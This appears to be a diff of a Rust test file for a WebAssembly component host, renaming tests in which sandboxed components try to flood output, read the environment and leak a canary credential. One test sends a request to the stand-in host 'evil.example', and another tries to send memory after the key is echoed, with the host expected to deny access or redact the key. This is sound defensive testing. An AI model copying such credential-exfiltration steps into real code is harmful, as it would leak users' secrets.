@@ -1,4 +1,5 @@
-//! Components that talk too much, and those that look for what is not theirs.
+//! Components that flood their output, and components that look for the environment and the
+//! credential.
 
 use serde_json::json;
 use zoetrope_host::contract::ErrorCause;
@@ -16,7 +17,7 @@ pub(super) fn family() -> Family {
         fixture.check(&json!({"do": [flood]})).expect("a plan");
         Fixture::is_unharmed();
     });
-    family.attack("look for what wasi:cli brings", || {
+    family.attack("read the environment from wasi:cli", || {
         let seen = Fixture::new().seen(&json!(["look_around"]));
         let nothing = [
             "environment []",
@@ -28,7 +29,7 @@ pub(super) fn family() -> Family {
         ];
         assert_eq!(seen, nothing);
     });
-    family.attack("ask clocks and random numbers", || {
+    family.attack("read the clocks and random numbers", || {
         let seen = Fixture::new().seen(&json!(["ask_the_time"]));
         assert_eq!(seen, ["random (65536, 65536)"]);
     });
@@ -36,23 +37,23 @@ pub(super) fn family() -> Family {
     family
 }
 
-/// Those that look for the credential.
+/// Components that look for the credential.
 fn credential(family: &mut Family) {
     family.attack("look for the credential in the connection", || {
         let seen = Fixture::new().seen(&json!(["connection"]));
         assert_eq!(seen, ["connection scripted: 0 headers, options {}"]);
     });
     family.attack(
-        "dump the whole memory after the provider has echoed the key",
+        "send the whole memory after the provider has echoed the key",
         || {
             let echo = format!("x-echo: {CANARY_KEY}\r\nx-canary: {CANARY_KEY}\r\n");
             let fixture = Fixture::answering(&echo, &format!("you sent {CANARY_KEY}"));
-            let deeds = json!([
+            let actions = json!([
                 "connection",
                 {"request": {"method": "GET"}},
                 {"request": {"body": "memory"}},
             ]);
-            let seen = fixture.seen(&deeds).join("\n");
+            let seen = fixture.seen(&actions).join("\n");
             assert!(
                 seen.contains("you sent ***") && !seen.contains(CANARY_KEY),
                 "{seen}"
@@ -69,9 +70,9 @@ fn credential(family: &mut Family) {
     );
     family.attack("read the credential from an error of the host", || {
         let fixture = Fixture::new();
-        let deeds =
+        let actions =
             json!([{"request": {"url": "http://evil.example/{base}", "body": {"text": "x"}}}]);
-        let denied = fixture.poll(&json!({"do": deeds, "then": {"error": {"cause": "denied"}}}));
+        let denied = fixture.poll(&json!({"do": actions, "then": {"error": {"cause": "denied"}}}));
         let Err(zoetrope_host::component::CallError::Node(error)) = denied else {
             panic!("{denied:?}")
         };
